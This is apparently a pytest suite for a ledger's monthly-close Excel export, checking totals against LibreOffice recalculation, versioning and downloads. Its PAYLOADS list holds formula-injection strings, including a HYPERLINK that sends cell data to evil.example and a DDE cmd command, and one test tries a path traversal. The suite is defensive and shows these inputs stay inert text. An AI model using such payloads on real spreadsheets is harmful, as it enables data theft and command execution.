"""Finance's workbook: LibreOffice recalculates it to the ledger's totals, to the cent.

LibreOffice (Debian's libreoffice-calc) is part of the test environment: `tests/install.sh` installs
it, and these tests fail, never skip, when it is missing.
"""

from __future__ import annotations

import re
import shutil
import subprocess
import urllib.request
import zipfile
from datetime import datetime
from decimal import Decimal
from pathlib import Path

import httpx
import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from blocks.storage import ObjectStorage
from ledger.db import session_scope
from ledger.imports import import_file
from ledger.models import Export, Invoice
from tests.support.builders import CUSTOMER_HEADER, customer, write_csv
from tests.support.ports import free_port
from tests.support.scenarios import HEADER, load_october

pytestmark = pytest.mark.prefect


@pytest.fixture
def october(prefect_server, home, ledger, tmp_path):
    return load_october(ledger, tmp_path)


def recalculate(path: Path, folder: Path) -> Path:
    """Open and save the workbook with headless LibreOffice, as a finance user's spreadsheet would."""
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    assert soffice, "LibreOffice is required for these tests: run tests/install.sh"
    folder.mkdir(exist_ok=True)
    subprocess.run([soffice, "--headless", "--calc", "--convert-to", "xlsx", "--outdir", str(folder), str(path)],
                   check=True, capture_output=True, timeout=180,
                   env={"HOME": str(folder), "PATH": "/usr/bin:/bin"})
    return folder / path.name


def fetch(key: str, target: Path) -> Path:
    with ObjectStorage().store().open(key) as source:
        target.write_bytes(source.read())
    return target


def ledger_totals(ledger, month):
    with session_scope(ledger) as session:
        return session.execute(select(func.sum(Invoice.total_ht), func.sum(Invoice.total_vat), func.sum(Invoice.total_ttc))
                               .where(Invoice.close_month == month)).one()


def rows(sheet):
    values = list(sheet.iter_rows(values_only=True))
    return values[0], values[1:]


def test_the_close_writes_a_workbook_libreoffice_recalculates_to_the_ledger(october, tmp_path):
    from flows.monthly_close import monthly_close

    monthly_close(month="2026-10")
    with session_scope(october) as session:
        export = session.scalars(select(Export)).one()
    assert export.key == "exports/2026/10/2026-10_billable-interventions.xlsx"
    original = fetch(export.key, tmp_path / "2026-10_billable-interventions.xlsx")
    computed = load_workbook(recalculate(original, tmp_path / "recalc"), data_only=True)
    assert computed.sheetnames == ["Summary", "Interventions", "Invoices", "About"]

    header, body = rows(computed["Summary"])
    column = {name: index for index, name in enumerate(header)}
    formulas = next(r for r in body if r[0] == "Total (formulas)")
    statics = next(r for r in body if r[0] == "Total (values)")
    check = next(r for r in body if r[0] and str(r[0]).startswith("Check"))
    ht, vat, ttc = ledger_totals(october, "2026-10")
    assert (ht, vat, ttc) == (Decimal("1403.87"), Decimal("259.03"), Decimal("1662.90"))
    for name, expected in (("total_ht", ht), ("total_vat", vat), ("total_ttc", ttc)):
        assert round(Decimal(str(formulas[column[name]])), 2) == expected
        assert round(Decimal(str(statics[column[name]])), 2) == expected
    assert check[1] == 0
    customers = [r for r in body if r[0] in ("ACME", "BETA", "GAMMA")]
    acme = next(r for r in customers if r[0] == "ACME")
    assert acme[column["name"]] == "Société Générale d'Épargne"  # accents survive
    assert (acme[column["included_minutes"]], acme[column["used_minutes"]], acme[column["over_minutes"]]) == (120, 120, 30)

    # the Summary's intervention amounts are the Interventions sheet's, its invoice totals the Invoices sheet's
    i_header, interventions = rows(computed["Interventions"])
    amount = i_header.index("amount_ht")
    intervention_total = sum(Decimal(str(r[amount])) for r in interventions if r[amount] is not None)
    summary_interventions = sum(Decimal(str(r[column["overage"]])) + Decimal(str(r[column["always_billed"]]))
                                for r in customers)
    assert intervention_total == summary_interventions == Decimal("535.00")  # ACME 400 + BETA 105 + GAMMA 30
    v_header, invoices = rows(computed["Invoices"])
    assert sum(Decimal(str(r[v_header.index("total_ttc")])) for r in invoices) == ttc
    assert {r[0] for r in invoices} == {r[column["invoices"]] for r in customers}
    # each invoice's document, as the customer received it
    assert {r[v_header.index("document")] for r in invoices} == {f"invoices/{r[6]:%Y/%m}/{r[0]}.pdf" for r in invoices}

    # formats: amounts are numbers in EUR, dates are dates, frozen headers, filters, readable widths
    raw = load_workbook(original)
    summary, intervention_sheet, invoice_sheet = raw["Summary"], raw["Interventions"], raw["Invoices"]
    assert summary["L2"].data_type == "n" and "€" in summary["L2"].number_format
    assert isinstance(invoice_sheet["G2"].value, datetime) and invoice_sheet["G2"].number_format == "yyyy-mm-dd"
    assert isinstance(intervention_sheet["A2"].value, datetime)
    for sheet in (summary, intervention_sheet, invoice_sheet):
        assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref
        assert sheet.column_dimensions["B"].width >= 10
    about = dict(r for r in raw["About"].iter_rows(values_only=True))
    assert about["month"] == "2026-10" and about["included_minutes"] == 120 and about["close"] == "finalised"


def test_unchanged_content_writes_nothing_and_changed_content_is_a_new_version(october, tmp_path):
    from flows.exports import billable_export
    from flows.monthly_close import monthly_close

    monthly_close(month="2026-10")
    again = billable_export(month="2026-10")
    assert (again["new"], again["version"]) == (False, 1)
    import_file("customers", write_csv(tmp_path / "rename.csv", CUSTOMER_HEADER,
                                       [customer("BETA", name="Beta Renamed SAS", fee="300.00", method="card")]),
                engine=october)
    changed = billable_export(month="2026-10")
    assert (changed["new"], changed["version"]) == (True, 2)
    assert changed["key"] == "exports/2026/10/2026-10_billable-interventions_v2.xlsx"
    keys = [item.key for item in ObjectStorage().store().list("exports/")]
    assert keys == ["exports/2026/10/2026-10_billable-interventions.xlsx",
                    "exports/2026/10/2026-10_billable-interventions_v2.xlsx"]


def test_an_export_is_refused_while_the_month_has_drafts(october):
    from ledger.db import session_scope as scope
    from policy.terms import Terms
    from tasks.export import ExportRefused, export_month
    from tasks.monthly_close import draft

    draft("2026-10", Terms(), actor="test", flow_run_id=None)
    with pytest.raises(ExportRefused, match="2026-10 has 3 draft invoice"):
        export_month("2026-10", ObjectStorage(), Terms(), flow_run_id=None)
    with scope(october) as session:
        assert session.scalar(select(func.count()).select_from(Export)) == 0


def test_an_empty_month_gives_a_workbook_that_says_so(october, tmp_path):
    from flows.exports import billable_export

    result = billable_export(month="2026-07")
    workbook = load_workbook(fetch(result["key"], tmp_path / "empty.xlsx"))
    assert any("No billable intervention or invoice for 2026-07." == r[0]
               for r in workbook["Summary"].iter_rows(values_only=True))
    assert workbook["Invoices"]["A2"].value == "No invoice for 2026-07."


def test_the_link_artifact_downloads_the_workbook_in_the_embedded_default(october, prefect_server, monkeypatch, home):
    from flows.exports import billable_export
    from lifecycle.downloads import serve_exports

    port = free_port()
    server = serve_exports(home / "objects", "127.0.0.1", port)
    monkeypatch.setenv("LIFECYCLE_DOWNLOAD_URL", f"http://127.0.0.1:{port}")
    try:
        state = billable_export(month="2026-10", return_state=True)
        run_id = str(state.state_details.flow_run_id)
        artifacts = httpx.post(f"{prefect_server}/artifacts/filter",
                               json={"flow_runs": {"id": {"any_": [run_id]}}, "limit": 10}).json()
        [link] = [a for a in artifacts if a["key"] == "billable-export"]
        url = link["data"].split("](")[1].rstrip(")")
        assert url == f"http://127.0.0.1:{port}/exports/2026/10/2026-10_billable-interventions.xlsx"
        with urllib.request.urlopen(url) as response:
            downloaded = response.read()
            assert "attachment" in response.headers["Content-Disposition"]
        with ObjectStorage().store().open(state.result()["key"]) as stored:
            assert downloaded == stored.read()
        with pytest.raises(urllib.error.HTTPError):
            urllib.request.urlopen(f"http://127.0.0.1:{port}/../ledger.db")
    finally:
        server.shutdown()


#: OWASP's CSV/formula injection payloads, as names and engineers a hostile customer or helpdesk could send
PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=1+2", "+1+2", "-1+2", "@SUM(1+2)",
            "=cmd|' /C calc'!A0", "=1+2;=3+4", "-@1+2"]


def test_no_formula_ever_comes_from_data(prefect_server, home, ledger, tmp_path):
    """Names, engineers and descriptions that look like formulas stay text: in the sheet XML no data cell
    is a formula, and LibreOffice's recalculation shows each one exactly as typed."""
    from flows.monthly_close import monthly_close
    customers = [customer(f"X{index}", name=payload) for index, payload in enumerate(PAYLOADS)]
    import_file("customers", write_csv(tmp_path / "c.csv", CUSTOMER_HEADER, customers), engine=ledger)
    import_file("interventions", write_csv(tmp_path / "i.csv", HEADER + ["engineer", "description"], [
        [f"I{index}", f"X{index}", "2026-10-02T09:00", "200", "assistance", payload, payload]
        for index, payload in enumerate(PAYLOADS)]), engine=ledger)
    monthly_close(month="2026-10")
    with session_scope(ledger) as session:
        key = session.scalars(select(Export)).one().key
    original = fetch(key, tmp_path / "hostile.xlsx")

    with zipfile.ZipFile(original) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/sheet"):
                xml = archive.read(name).decode()
                formulas = re.findall(r"<f>(.*?)</f>", xml)
                # the only formulas are ours: the Summary's SUM totals and its ROUND check
                assert all(f.startswith(("SUM(", "ROUND(")) for f in formulas), (name, formulas)
    computed = load_workbook(recalculate(original, tmp_path / "recalc"), data_only=True)
    header, body = rows(computed["Summary"])
    names = {r[header.index("customer_id")]: r[header.index("name")] for r in body if r[0] and str(r[0]).startswith("X")}
    assert names == {f"X{index}": payload for index, payload in enumerate(PAYLOADS)}
    i_header, interventions = rows(computed["Interventions"])
    assert sorted(r[i_header.index("engineer")] for r in interventions) == sorted(PAYLOADS)
